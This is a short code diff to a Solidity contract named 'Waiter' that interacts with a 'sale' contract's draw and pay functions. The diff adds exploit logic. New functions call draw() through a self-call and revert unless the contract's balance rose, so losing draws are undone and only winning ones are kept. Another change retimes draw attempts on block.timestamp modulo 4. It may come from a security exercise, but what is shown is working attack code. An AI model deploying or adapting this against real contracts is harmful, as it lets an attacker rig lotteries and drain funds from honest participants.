@@ -11,13 +11,25 @@ contract Waiter {
     }
 
     function pay() external {
-        sale.pay{value: address(this).balance}();
+        uint256 most = address(sale).balance;
+        sale.pay{value: address(this).balance < most ? address(this).balance : most}();
     }
 
     function attempt() external {
-        if (block.timestamp % 10 == 7) {
+        if (block.timestamp % 4 == 3) {
             try sale.draw() {} catch {}
         }
+    }
+
+    /// Draws, and takes it back unless something came of it.
+    function insist() external {
+        uint256 before = address(this).balance;
+        try this.lucky(before) {} catch {}
+    }
+
+    function lucky(uint256 before) external {
+        sale.draw();
+        require(address(this).balance > before, "no luck");
     }
 
     receive() external payable {}
